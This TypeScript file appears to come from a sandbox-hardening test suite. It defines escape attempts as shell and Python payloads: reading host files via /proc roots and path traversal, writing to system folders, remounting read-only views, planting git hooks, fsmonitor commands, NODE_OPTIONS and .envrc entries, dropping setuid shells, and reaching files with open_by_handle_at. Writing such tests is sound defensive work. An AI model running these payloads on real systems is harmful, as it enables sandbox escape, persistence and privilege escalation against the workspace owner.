// The machine's files: to be read, to be written, and what the owner of the workspace runs later without looking.
import { existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Escape, Ground, Laid } from "../attack.ts";
import { plantFile, secretWord } from "../planted.ts";
import { runOrdinarily } from "../processes.ts";
import { python, shell } from "../python.ts";

const told = (planted: ReturnType<typeof plantFile>, words: Laid["words"] = {}): Laid => ({
  words: { FILE: planted.path, ...words },
  secret: planted.secret,
  end: planted.end,
});

const readers = shell(String.raw`
cat "$ATTACK_FILE"
for root in /proc/1/root /proc/self/root /proc/self/task/1/root /proc/$PPID/root /proc/1/cwd /../../../.. ; do cat "$root$ATTACK_FILE"; done
cat "../../../../../../../../../../..$ATTACK_FILE"
ln -s "$ATTACK_FILE" link-to-it; cat link-to-it; rm -f link-to-it
for folder in /mnt /media /host /hostfs /oldroot /old /newroot /run/host /run/media; do cat "$folder$ATTACK_FILE"; done`);

/** What was not there, or reads otherwise, was put there from inside. */
function isPlantedAt(path: string, before: string | undefined): string | undefined {
  const now = existsSync(path) ? readFileSync(path, "utf8") : undefined;
  return now === before ? undefined : `${path} was written`;
}

/** A repository in the workspace, as the sandbox guards it. */
export const GUARDED = [".git/hooks", ".git/config", ".env", ".envrc"] as const;
const GIT_CONFIG = "[core]\n\tbare = false\n";

export function layRepository(workspace: string): void {
  rmSync(join(workspace, ".git"), { recursive: true, force: true });
  rmSync(join(workspace, ".envrc"), { force: true });
  mkdirSync(join(workspace, ".git", "hooks"), { recursive: true });
  writeFileSync(join(workspace, ".git", "config"), GIT_CONFIG);
  writeFileSync(join(workspace, ".env"), "KEY=value\n");
}

const guarded =
  (path: string, before: string | undefined) =>
  ({ workspace, home, isControl }: Ground): Laid => {
    // A sandbox holds on to what it guards: only the control's may be laid again.
    if (isControl) layRepository(workspace);
    return {
      words: { HOME: home },
      seen: () => isPlantedAt(join(workspace, path), before),
      end: () => (isControl ? layRepository(workspace) : undefined),
    };
  };

export const fileEscapes: readonly Escape[] = [
  { id: "host-file", program: readers, lay: (_, { folder }) => told(plantFile(folder)) },
  {
    id: "credentials",
    program: readers,
    lay: (_, { userHome }) => {
      try {
        return told(plantFile(userHome, 0o600));
      } catch {
        return { is: "needs", what: "home" };
      }
    },
  },
  {
    id: "host-write",
    program: shell(String.raw`
for way in "" /proc/1/root /proc/self/root ../../../../../../../../.. ; do echo written > "$way$ATTACK_FILE"; done`),
    lay: (_, { folder }) => {
      const path = join(folder, `written-${secretWord()}`);
      return {
        words: { FILE: path },
        seen: () => isPlantedAt(path, undefined),
        end: () => rmSync(path, { force: true }),
      };
    },
  },
  {
    id: "links-out",
    program: shell(String.raw`
folder=$(dirname "$ATTACK_FILE"); cd "$ATTACK_HOME" || exit
ln -s "$ATTACK_FILE" soft; echo written > soft; ln "$ATTACK_FILE" hard; echo written > hard
ln -s "$folder" there; echo written > "there/$(basename "$ATTACK_FILE")"; rm -f soft hard there`),
    lay: ({ home }, { folder }) => {
      const { path, secret, end } = plantFile(folder, 0o666);
      return { words: { FILE: path, HOME: home }, seen: () => isPlantedAt(path, `${secret}\n`), end };
    },
  },
  {
    id: "view-write",
    program: shell(String.raw`
new="$ATTACK_VIEW/written"
echo written > "$new"; mount -o remount,rw,bind "$ATTACK_VIEW" && echo written > "$new"
chmod -R u+w "$ATTACK_VIEW" && echo written > "$new"; mv "$ATTACK_VIEW/shown" "$ATTACK_VIEW/moved"; mkdir "$ATTACK_VIEW/written"`),
    lay: ({ view }, { folder }) => {
      const shown = join(folder, "view");
      const clean = (): void => {
        rmSync(join(shown, "written"), { recursive: true, force: true });
        rmSync(join(shown, "moved"), { force: true });
        writeFileSync(join(shown, "shown"), "shown\n");
      };
      clean();
      const seen = (): string | undefined =>
        existsSync(join(shown, "written")) || existsSync(join(shown, "moved")) ? `${shown} was changed` : undefined;
      return { words: { VIEW: view }, seen, end: clean };
    },
  },
  {
    id: "system-write",
    program: shell(String.raw`
for folder in /usr/local /usr/bin /etc /usr/lib /opt /var/tmp; do
  echo written > "$folder/$ATTACK_NAME" || (mount -o remount,rw "$folder" && echo written > "$folder/$ATTACK_NAME"); done`),
    lay: () => {
      const name = `.aios-attack-${secretWord()}`;
      const paths = ["/usr/local", "/usr/bin", "/etc", "/usr/lib", "/opt"].map((folder) => join(folder, name));
      return {
        words: { NAME: name },
        seen: () => paths.map((path) => isPlantedAt(path, undefined)).find((one) => one !== undefined),
        end: () => {
          for (const path of [...paths, join("/var/tmp", name)]) rmSync(path, { force: true });
        },
      };
    },
  },
  {
    id: "file-handle",
    // A handle names a file of its file system whatever is mounted where (open_by_handle_at(2)).
    program: python(String.raw`
def act():
  name = bytes.fromhex(word("HANDLE"))
  handle = ctypes.create_string_buffer(struct.pack("Ii", len(name), int(word("TYPE"))) + name)
  for mount in (word("HOME"), "/", "/usr", "/etc", "/tmp", "/etc/hosts"):
    try:
      fd = call("open_by_handle_at", os.open(mount, os.O_RDONLY), handle, os.O_RDONLY)
      tell(os.read(fd, 4096).decode())
    except OSError as cause:
      why(cause)
attempt(act)`),
    lay: async ({ home }, { folder }) => {
      const planted = plantFile(folder);
      const { output, isMissing } = await runOrdinarily(namer, { FILE: planted.path }, { cwd: "/" });
      const [, type, handle] = /HANDLE (-?\d+) ([0-9a-f]+)/.exec(output) ?? [];
      if (isMissing || type === undefined || handle === undefined) {
        planted.end();
        return isMissing ? { is: "no-interpreter", name: "python3" } : { is: "refused", text: output.trim() };
      }
      return told(planted, { HOME: home, TYPE: type, HANDLE: handle });
    },
  },
  {
    id: "git-hooks",
    program:
      shell(String.raw`cd "$ATTACK_HOME" || exit; echo 'touch planted' > .git/hooks/post-checkout; cp .git/hooks/post-checkout .git/hooks/x
mv .git/hooks .git/old; mkdir -p .git/hooks; echo 'touch planted' > .git/hooks/post-checkout`),
    lay: guarded(".git/hooks/post-checkout", undefined),
  },
  {
    id: "git-config",
    program: shell(String.raw`cd "$ATTACK_HOME" || exit; echo '[core] fsmonitor = touch planted' > new
cat new >> .git/config; cp -f new .git/config; mv -f new .git/config; rm -f .git/config new`),
    lay: guarded(".git/config", GIT_CONFIG),
  },
  {
    id: "dot-env",
    program: shell(String.raw`cd "$ATTACK_HOME" || exit; echo 'NODE_OPTIONS=--require=./planted.js' > new
cat new > .env; cp -f new .env; ln -sf new .env; mv -f new .env; rm -f .env new`),
    lay: guarded(".env", "KEY=value\n"),
  },
  {
    id: "new-guarded",
    program: shell(String.raw`cd "$ATTACK_HOME" || exit; echo 'touch planted' > new
cat new > .envrc; cp new .envrc; ln -s new .envrc; mv new .envrc; rm -f new`),
    lay: ({ workspace, home }) => {
      const path = join(workspace, ".envrc");
      // What holds the place free may be seen outside as long as the sandbox is there: it is empty.
      const seen = (): string | undefined => {
        const found = statSync(path, { throwIfNoEntry: false });
        return found?.isFile() && found.size > 0 ? `${path} was made` : undefined;
      };
      return { words: { HOME: home }, seen };
    },
  },
  {
    id: "left-set-user-id",
    // What runs with the rights of the workspace's owner, whoever starts it later.
    program:
      shell(String.raw`cd "$ATTACK_HOME" || exit; cp /bin/sh "$ATTACK_NAME"; chmod 4755 "$ATTACK_NAME"; chmod u+s "$ATTACK_NAME"
install -m 4755 /bin/sh "$ATTACK_NAME-2"; ls -l "$ATTACK_NAME"`),
    lay: ({ home, workspace }) => {
      const name = `sh-${secretWord()}`;
      const paths = [name, `${name}-2`].map((one) => join(workspace, one));
      const seen = (): string | undefined =>
        paths.some((path) => ((statSync(path, { throwIfNoEntry: false })?.mode ?? 0) & 0o6000) !== 0)
          ? "it runs with the rights of its owner"
          : undefined;
      const end = (): void => {
        for (const path of paths) rmSync(path, { force: true });
      };
      return { words: { HOME: home, NAME: name }, seen, end };
    },
  },
  {
    id: "git-replaced",
    // What is mounted stays with the folder that is moved: in the new one nothing is.
    program: shell(String.raw`cd "$ATTACK_HOME" || exit; mv .git moved && mkdir -p .git/hooks &&
cp -r moved/config .git/ ; echo 'touch planted' > .git/hooks/post-merge; rm -rf .git.x; ls -la .git/hooks`),
    lay: (ground) => ({
      ...guarded(".git/hooks/post-merge", undefined)(ground),
      end: () => {
        if (!ground.isControl) return;
        rmSync(join(ground.workspace, "moved"), { recursive: true, force: true });
        layRepository(ground.workspace);
      },
    }),
  },
];

const namer = python(String.raw`
def act():
  handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
  mount = ctypes.c_int()
  call("name_to_handle_at", -100, ctypes.c_char_p(word("FILE").encode()), handle, ctypes.byref(mount), 0)
  size, kind = struct.unpack_from("Ii", handle)
  tell("HANDLE", kind, handle.raw[8:8 + size].hex())
attempt(act)`);
